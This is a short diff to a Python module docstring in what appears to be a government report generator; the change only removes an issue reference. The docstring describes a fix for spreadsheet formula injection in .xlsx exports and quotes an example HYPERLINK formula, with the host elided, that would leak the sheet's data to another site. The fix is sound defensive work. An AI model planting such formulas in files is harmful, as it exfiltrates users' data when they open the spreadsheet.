@@ -1,5 +1,5 @@
 """Text that people entered (an OPD head's name, a kelurahan note, a table cell) stays text in a report's
-.xlsx (issue 20): xlsxwriter turned any string starting with "=" into a live formula, so a name such as
+.xlsx: xlsxwriter turned any string starting with "=" into a live formula, so a name such as
 =HYPERLINK("http://…"&B2, "…") sent the sheet's figures to another site when the file was opened."""
 
 from __future__ import annotations
